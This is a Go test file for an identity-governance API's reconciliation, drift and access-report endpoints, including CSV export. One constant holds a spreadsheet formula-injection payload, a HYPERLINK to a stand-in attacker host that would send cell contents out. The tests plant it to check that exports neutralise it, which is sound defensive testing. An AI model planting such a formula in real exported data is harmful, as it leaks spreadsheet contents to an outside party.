package api_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/accord-iam/accord/internal/api"
	"github.com/accord-iam/accord/internal/audit"
	"github.com/accord-iam/accord/internal/model"
	"github.com/accord-iam/accord/internal/recon"
	"github.com/accord-iam/accord/internal/store"
	"github.com/accord-iam/accord/internal/targetsim"
)

// reconcile asks for a reconciliation of the simulator's target and
// returns its ID.
func (w *world) reconcile(query string) string {
	w.t.Helper()
	r := w.do("POST", "/api/v1/targets/saas/reconcile"+query, w.keys[api.ScopeActionsWrite], nil)
	require.Equal(w.t, http.StatusAccepted, r.status, r.text())
	rec := r.json(w.t)["reconciliation"].(map[string]any)
	id := rec["id"].(string)
	require.Equal(w.t, "/api/v1/reconciliations/"+id, r.header.Get("Location"))
	require.Equal(w.t, r.header.Get("Location"), rec["link"])
	return id
}

// waitRecon polls a reconciliation until it is done. It fails at once
// when the server reports that it failed; the deadline only guards
// against a hang.
func (w *world) waitRecon(id string) map[string]any {
	w.t.Helper()
	deadline := time.Now().Add(30 * time.Second)
	tick := time.NewTicker(5 * time.Millisecond)
	defer tick.Stop()
	for {
		rec := w.admin("GET", "/api/v1/reconciliations/"+id, nil, http.StatusOK).json(w.t)
		require.Empty(w.t, rec["last_error"], "reconciliation %s failed", id)
		if rec["state"] == "done" {
			return rec
		}
		require.True(w.t, time.Now().Before(deadline), "reconciliation %s not done after 30s: %v", id, rec)
		<-tick.C
	}
}

// formula is what a spreadsheet would run if it were not neutralised.
const formula = `=HYPERLINK("http://attacker.invalid/?leak="&A1,"open")`

// handEdits changes the simulator behind accord's back: an account
// nobody owns, and Ada's display name turned into a formula.
func (w *world) handEdits() (orphanID string) {
	w.t.Helper()
	u, err := w.sim.SCIM().CreateUser("intruder@example.com", map[string]any{"displayName": "Not In HR", "active": true})
	require.NoError(w.t, err)
	require.NoError(w.t, w.sim.SCIM().SetUserAttr(w.account("E1").NativeID, "displayName", formula))
	return u.Str("id")
}

func TestDriftFoundAfterHandEditsIsListedCountedAndExported(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldOptions{})
	orphanID := w.handEdits()

	id := w.reconcile("")
	rec := w.waitRecon(id)
	require.Equal(t, false, rec["dry_run"])
	require.Equal(t, float64(4), rec["accounts"], "E1..E3 and the hand-made one")
	require.Equal(t, map[string]any{"orphan": float64(1), "attribute": float64(1)}, rec["counts"])
	require.Equal(t, float64(2), rec["drift"])
	require.Empty(t, rec["run_id"], "drift is only reported by default")

	// Listed as finished, newest first.
	list := w.admin("GET", "/api/v1/reconciliations?target=saas", nil, http.StatusOK).json(t)["items"].([]any)
	require.Len(t, list, 1)
	require.Equal(t, id, list[0].(map[string]any)["id"])
	require.Equal(t, "done", list[0].(map[string]any)["state"])

	body := w.admin("GET", "/api/v1/drift", nil, http.StatusOK).json(t)
	require.Equal(t, float64(2), body["total"])
	counts := body["counts"].(map[string]any)
	require.Equal(t, float64(1), counts["orphan"])
	require.Equal(t, float64(1), counts["attribute"])
	require.Equal(t, float64(0), counts["leaver_active"], "every class is counted")
	byClass := map[string]map[string]any{}
	for _, it := range body["items"].([]any) {
		d := it.(map[string]any)
		byClass[d["class"].(string)] = d
		require.Equal(t, id, d["reconciliation"])
		require.Nil(t, d["resolved_at"])
	}
	require.Equal(t, orphanID, byClass["orphan"]["native_id"])
	require.Equal(t, "intruder@example.com", byClass["orphan"]["actual"])
	require.Equal(t, "", byClass["orphan"]["person"])
	require.Equal(t, "E1", byClass["attribute"]["person"])
	require.Equal(t, "displayName", byClass["attribute"]["subject"])
	require.Equal(t, "Ada Lovelace", byClass["attribute"]["expected"])
	require.Equal(t, formula, byClass["attribute"]["actual"], "JSON carries the value as it is")

	// Filters.
	one := w.admin("GET", "/api/v1/drift?class=orphan&target=saas", nil, http.StatusOK).json(t)
	require.Equal(t, float64(1), one["total"])
	require.Equal(t, "orphan", one["items"].([]any)[0].(map[string]any)["class"])
	ada := w.admin("GET", "/api/v1/drift?person=E1", nil, http.StatusOK).json(t)
	require.Equal(t, float64(1), ada["total"])
	none := w.admin("GET", "/api/v1/drift?person=E2&class=orphan,attribute", nil, http.StatusOK).json(t)
	require.Equal(t, float64(0), none["total"])
	require.Equal(t, []any{}, none["items"])

	// Paging keeps the counts of all that matched.
	first := w.admin("GET", "/api/v1/drift?limit=1", nil, http.StatusOK).json(t)
	require.Len(t, first["items"], 1)
	require.Equal(t, float64(2), first["total"])
	next := first["next"].(string)
	require.Contains(t, next, "offset=1")
	second := w.admin("GET", next, nil, http.StatusOK).json(t)
	require.Len(t, second["items"], 1)
	require.Empty(t, second["next"])
	require.NotEqual(t, first["items"], second["items"])

	// CSV, by ?format= or by Accept, with the formula neutralised.
	for _, how := range []struct{ path, accept string }{
		{"/api/v1/drift?format=csv", ""},
		{"/api/v1/drift", "text/csv"},
		{"/api/v1/drift", "application/json;q=0.5, text/csv"},
	} {
		r := w.do("GET", how.path, w.keys[api.ScopeRead], nil, "Accept", how.accept)
		require.Equal(t, http.StatusOK, r.status, r.text())
		require.Equal(t, "text/csv; charset=utf-8", r.header.Get("Content-Type"))
		require.Equal(t, `attachment; filename=accord-drift-2026-03-02.csv`, r.header.Get("Content-Disposition"))
		rows := readCSV(t, r.body)
		require.Equal(t, recon.DriftHeader, rows[0])
		require.Len(t, rows, 3)
		col := slices.Index(recon.DriftHeader, "actual")
		var actual []string
		for _, row := range rows[1:] {
			actual = append(actual, row[col])
		}
		require.ElementsMatch(t, []string{"'" + formula, "intruder@example.com"}, actual)
		require.NotContains(t, r.text(), "\n"+formula)
		require.NotContains(t, r.text(), ","+formula)
	}
	// JSON stays the default unless CSV is asked for above it.
	for _, how := range []struct{ path, accept string }{
		{"/api/v1/drift", ""},
		{"/api/v1/drift", "*/*"},
		{"/api/v1/drift", "text/csv;q=0.5, */*"},
		{"/api/v1/drift", "application/json, text/csv"},
		{"/api/v1/drift", "text/csv;q=0"},
		{"/api/v1/drift?format=json", "text/csv"},
	} {
		r := w.do("GET", how.path, w.keys[api.ScopeRead], nil, "Accept", how.accept)
		require.Equal(t, http.StatusOK, r.status, r.text())
		require.Contains(t, r.header.Get("Content-Type"), "application/json", "%s with Accept %q", how.path, how.accept)
	}

	// Fixed by hand: the next reconciliation resolves the drift; all=true
	// still shows it.
	require.NoError(t, w.sim.SCIM().DeleteUser(orphanID))
	require.NoError(t, w.sim.SCIM().SetUserAttr(w.account("E1").NativeID, "displayName", "Ada Lovelace"))
	w.waitRecon(w.reconcile(""))
	require.Equal(t, float64(0), w.admin("GET", "/api/v1/drift", nil, http.StatusOK).json(t)["total"])
	all := w.admin("GET", "/api/v1/drift?all=true", nil, http.StatusOK).json(t)
	require.Equal(t, float64(2), all["total"])
	for _, it := range all["items"].([]any) {
		require.NotNil(t, it.(map[string]any)["resolved_at"])
	}
	require.Len(t, w.admin("GET", "/api/v1/reconciliations?target=saas&limit=1", nil, http.StatusOK).json(t)["items"], 1)
}

func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	require.NoError(t, err)
	return rows
}

func TestAccessReportPerPerson(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldOptions{})
	e1 := w.account("E1").NativeID

	// Before any reconciliation: what accord granted, not yet read back.
	rows := w.admin("GET", "/api/v1/reports/access?person=E1", nil, http.StatusOK).json(t)["items"].([]any)
	byEnt := map[string]map[string]any{}
	for _, it := range rows {
		r := it.(map[string]any)
		require.Equal(t, "E1", r["person"])
		require.Equal(t, "saas", r["target"])
		require.Equal(t, e1, r["native_id"])
		require.Equal(t, true, r["known"])
		byEnt[r["entitlement"].(string)] = r
	}
	require.Len(t, byEnt, 3)
	require.Equal(t, []any{"sales"}, byEnt["crm"]["roles"])
	require.Equal(t, []any{"(birthright)"}, byEnt["all-staff"]["roles"])
	require.NotEmpty(t, byEnt["crm"]["granted_by_run"], "granted by the enforcement run")
	require.NotNil(t, byEnt["crm"]["since"])

	// An entitlement granted by hand shows up, with no role, once read.
	require.NoError(t, w.sim.SCIM().AddMember(w.groupID("vip-lounge"), e1))
	w.waitRecon(w.reconcile(""))
	rows = w.admin("GET", "/api/v1/reports/access?person=E1&target=saas", nil, http.StatusOK).json(t)["items"].([]any)
	byEnt = map[string]map[string]any{}
	for _, it := range rows {
		r := it.(map[string]any)
		byEnt[r["entitlement"].(string)] = r
	}
	require.Len(t, byEnt, 4)
	require.Equal(t, "yes", byEnt["crm"]["on_target"])
	require.NotNil(t, byEnt["crm"]["verified_at"])
	require.Equal(t, []any{}, byEnt["vip-lounge"]["roles"])
	require.Equal(t, false, byEnt["vip-lounge"]["known"], "reported, not taken over")
	require.Equal(t, "yes", byEnt["vip-lounge"]["on_target"])

	// Paging over everyone.
	all := w.admin("GET", "/api/v1/reports/access", nil, http.StatusOK).json(t)["items"].([]any)
	page := w.admin("GET", "/api/v1/reports/access?limit=2", nil, http.StatusOK).json(t)
	require.Equal(t, all[:2], page["items"])
	rest := w.admin("GET", page["next"].(string), nil, http.StatusOK).json(t)
	require.Equal(t, all[2:min(4, len(all))], rest["items"])

	r := w.do("GET", "/api/v1/reports/access?person=E1&format=csv", w.keys[api.ScopeRead], nil)
	require.Equal(t, http.StatusOK, r.status, r.text())
	require.Equal(t, "text/csv; charset=utf-8", r.header.Get("Content-Type"))
	require.Equal(t, "attachment; filename=accord-access-E1-2026-03-02.csv", r.header.Get("Content-Disposition"))
	csvRows := readCSV(t, r.body)
	require.Equal(t, recon.AccessHeader, csvRows[0])
	require.Len(t, csvRows, 5)
	require.Equal(t, []string{"E1", "saas", e1, "enabled", "crm", "sales"}, csvRows[slices.IndexFunc(csvRows, func(row []string) bool {
		return row[4] == "crm"
	})][:6])
}

func TestReconcileConvergesAndWakesTheEngine(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldOptions{reconcile: "    reconcile:\n      drift: {missing_entitlement: converge}"})
	e2 := w.account("E2").NativeID
	require.NoError(t, w.sim.SCIM().RemoveMember(w.groupID("github"), e2))
	ops := w.newKey("itsm-bot", api.ScopeActionsWrite)

	r := w.do("POST", "/api/v1/targets/saas/reconcile?dry_run=false", ops, nil)
	require.Equal(t, http.StatusAccepted, r.status, r.text())
	body := r.json(t)
	require.Equal(t, false, body["resumed"])
	id := body["reconciliation"].(map[string]any)["id"].(string)
	require.Contains(t, body["message"], id)
	rec := w.waitRecon(id)
	require.Equal(t, map[string]any{"missing_entitlement": float64(1)}, rec["counts"])
	runID := rec["run_id"].(string)
	require.NotEmpty(t, runID)
	require.Equal(t, "/api/v1/runs/"+runID, rec["run_link"])

	// The engine polls hourly in these tests: only a wake-up runs the fix.
	run := w.waitRun(runID)
	require.Equal(t, model.RunSucceeded, run.State)
	require.Equal(t, "reconcile:apikey:itsm-bot", run.Trigger)
	require.Contains(t, w.sim.SCIM().Members(w.groupID("github")), e2)

	// The request is audited under the key's name.
	recs, err := w.app.Store.ListAudit(context.Background(), store.AuditQuery{Target: "saas", Kinds: []audit.Kind{audit.KindEvent}})
	require.NoError(t, err)
	i := slices.IndexFunc(recs, func(r audit.Record) bool {
		return r.Operation == "api POST /api/v1/targets/{target}/reconcile"
	})
	require.GreaterOrEqual(t, i, 0)
	require.Equal(t, "apikey:itsm-bot", recs[i].Actor)
	require.Equal(t, http.StatusAccepted, recs[i].Status)
	require.Equal(t, "succeeded", recs[i].Outcome)
	require.Contains(t, recs[i].Message, "reconciliation "+id+" of saas started")
	requireNoKeyIn(t, w, ops)
}

func TestReconcileAlreadyRunningIsAConflict(t *testing.T) {
	t.Parallel()
	h := newHold()
	w := newWorld(t, worldOptions{simSleep: h.sleep})
	w.handEdits()

	// Held at the target while it lists the accounts.
	_, err := w.sim.AddFault(targetsim.Rule{Kind: targetsim.FaultLatency, Delay: targetsim.Duration(time.Millisecond),
		Method: "GET", Pattern: "/scim/v2/Users", Times: 1})
	require.NoError(t, err)
	id := w.reconcile("?dry_run=true")
	<-h.arrived
	running := w.admin("GET", "/api/v1/reconciliations/"+id, nil, http.StatusOK).json(t)
	require.Equal(t, "running", running["state"])
	require.Equal(t, true, running["dry_run"])

	r := w.do("POST", "/api/v1/targets/saas/reconcile", w.keys[api.ScopeActionsWrite], nil)
	require.Equal(t, http.StatusConflict, r.status, r.text())
	e := r.json(t)["error"].(map[string]any)
	require.Equal(t, api.CodeConflict, e["code"])
	require.Contains(t, e["message"], id+" of saas is already running")
	require.Equal(t, id, e["details"].(map[string]any)["reconciliation"])

	close(h.release)
	rec := w.waitRecon(id)
	require.Equal(t, true, rec["dry_run"])
	require.Equal(t, float64(2), rec["drift"], "found")
	require.Equal(t, float64(0), w.admin("GET", "/api/v1/drift", nil, http.StatusOK).json(t)["total"], "a dry run records nothing")

	// Another process holds the target's lease: its error is a 409 too.
	now := w.app.Now()
	held, _, err := w.app.Store.StartRecon(context.Background(), "saas", "node-b", now, now.Add(time.Hour), time.Time{})
	require.NoError(t, err)
	r = w.do("POST", "/api/v1/targets/saas/reconcile", w.keys[api.ScopeActionsWrite], nil)
	require.Equal(t, http.StatusConflict, r.status, r.text())
	msg := r.json(t)["error"].(map[string]any)["message"].(string)
	require.Contains(t, msg, held.ID)
	require.Contains(t, msg, "node-b")
	listed := w.admin("GET", "/api/v1/reconciliations?target=saas", nil, http.StatusOK).json(t)["items"].([]any)
	require.Equal(t, held.ID, listed[0].(map[string]any)["id"])
	require.Equal(t, "running", listed[0].(map[string]any)["state"])
	require.Equal(t, "node-b", listed[0].(map[string]any)["lease_owner"])

	// Once node-b lets go, the next request resumes its reconciliation.
	held.LeaseUntil = time.Time{}
	require.NoError(t, w.app.Store.UpdateRecon(context.Background(), "node-b", held))
	require.Equal(t, "interrupted", w.admin("GET", "/api/v1/reconciliations/"+held.ID, nil, http.StatusOK).json(t)["state"])
	r = w.do("POST", "/api/v1/targets/saas/reconcile", w.keys[api.ScopeActionsWrite], nil)
	require.Equal(t, http.StatusAccepted, r.status, r.text())
	require.Equal(t, true, r.json(t)["resumed"])
	require.Equal(t, held.ID, w.waitRecon(held.ID)["id"])
}

func TestReconAndReportBadRequests(t *testing.T) {
	t.Parallel()
	w := newWorld(t, worldOptions{})
	cases := []struct {
		method, path string
		status       int
		says         []string
	}{
		{"GET", "/api/v1/drift?class=orphan,nope", 400, []string{"class", `"nope" is not one of`, "leaver_active"}},
		{"GET", "/api/v1/drift?target=nope", 400, []string{"target", `no target named "nope" (targets: saas)`}},
		{"GET", "/api/v1/drift?all=yes", 400, []string{"all", "expected true or false"}},
		{"GET", "/api/v1/drift?format=xml", 400, []string{"format", `"xml" is not one of json, csv`}},
		{"GET", "/api/v1/drift?format=csv&limit=5", 400, []string{"limit", "not paged"}},
		{"GET", "/api/v1/drift?offset=-1", 400, []string{"offset", "non-negative"}},
		{"GET", "/api/v1/drift?limit=0", 400, []string{"limit"}},
		{"GET", "/api/v1/drift?clas=orphan", 400, []string{"unknown query parameter clas"}},
		{"GET", "/api/v1/drift?person=NOBODY", 404, []string{`no person with key "NOBODY"`}},
		{"GET", "/api/v1/reports/access?target=nope", 400, []string{`no target named "nope"`}},
		{"GET", "/api/v1/reports/access?person=NOBODY", 404, []string{"NOBODY"}},
		{"GET", "/api/v1/reports/access?format=csv&offset=1", 400, []string{"offset", "not paged"}},
		{"GET", "/api/v1/reconciliations?target=nope", 400, []string{`no target named "nope"`}},
		{"GET", "/api/v1/reconciliations?limit=abc", 400, []string{"limit"}},
		{"GET", "/api/v1/reconciliations/recon-nope", 404, []string{"recon-nope"}},
		{"POST", "/api/v1/targets/nope/reconcile", 404, []string{`no target named "nope"`}},
		{"POST", "/api/v1/targets/saas/reconcile?dry_run=maybe", 400, []string{"dry_run", "expected true or false"}},
		{"POST", "/api/v1/targets/saas/reconcile?dryrun=true", 400, []string{"unknown query parameter dryrun"}},
	}
	for _, c := range cases {
		r := w.do(c.method, c.path, w.keys[api.ScopeAdmin], nil)
		require.Equal(t, c.status, r.status, "%s %s: %s", c.method, c.path, r.text())
		msg := r.json(t)["error"].(map[string]any)["message"].(string)
		for _, s := range c.says {
			require.Contains(t, msg, s, "%s %s", c.method, c.path)
		}
	}
	recs, err := w.app.Store.ListRecons(context.Background(), store.ReconQuery{})
	require.NoError(t, err)
	require.Empty(t, recs, "no bad request started anything")
}
